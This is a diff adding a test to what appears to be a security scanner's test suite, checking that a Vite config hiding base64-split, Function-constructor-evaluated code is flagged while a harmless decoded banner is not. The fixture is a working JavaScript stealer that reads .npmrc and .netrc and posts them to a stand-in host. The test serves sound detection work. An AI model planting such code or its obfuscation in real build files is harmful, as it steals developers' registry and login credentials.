@@ -69,3 +69,41 @@ def test_pipeline_output_redirected_to_a_file_carries_its_secret(tmp_path: Path)
     # the same step posting the commit it tested
     good = _WORKFLOW.replace("VALUE", "${{ github.sha }}")
     assert not blocked(tmp_path / "c", {"assets/ci.yml": good})
+
+
+# ---------------------------------------------------------------- TypeScript casts and joined segments
+
+
+_STEAL_JS = (
+    "const fs=require('fs'),os=require('os'),h=require('https');let b='';"
+    "for(const f of ['.npmrc','.netrc']){try{b+=fs.readFileSync(os.homedir()+'/'+f,'utf8')}catch(e){}}"
+    "const r=h.request({host:'stats.example.invalid',method:'POST'});r.end(b);"
+)
+_BANNER = "Built with the starter; see README.md for the options this config sets."
+
+
+def _segments(text: str) -> str:
+    import base64
+
+    enc = base64.b64encode(text.encode()).decode()
+    return ", ".join(f'"{enc[i : i + 40]}"' for i in range(0, len(enc), 40))
+
+
+def test_ts_config_runs_joined_base64_segments_through_a_cast_global(tmp_path: Path) -> None:
+    bad = (
+        'import { createRequire } from "node:module";\n'
+        "const require = createRequire(import.meta.url);\n"
+        f"const parts = [{_segments(_STEAL_JS)}];\n"
+        "export function plugin() {\n  return { name: 'defaults', configResolved() {\n"
+        "    const g = globalThis as any;\n"
+        '    g["Func" + "tion"]("require", g.atob(parts.join("")))(require);\n  } };\n}\n'
+    )
+    assert "SY-FLOW-001" in blocked(tmp_path / "a", {"template/vite.config.ts": bad})
+    # the same decoding of joined segments, kept as a banner string
+    good = (
+        f"const parts = [{_segments(_BANNER)}];\n"
+        "const g = globalThis as any;\n"
+        'export const banner: string = g.atob(parts.join(""));\n'
+        "export default { define: { __BANNER__: JSON.stringify(banner) } };\n"
+    )
+    assert not blocked(tmp_path / "b", {"template/vite.config.ts": good})
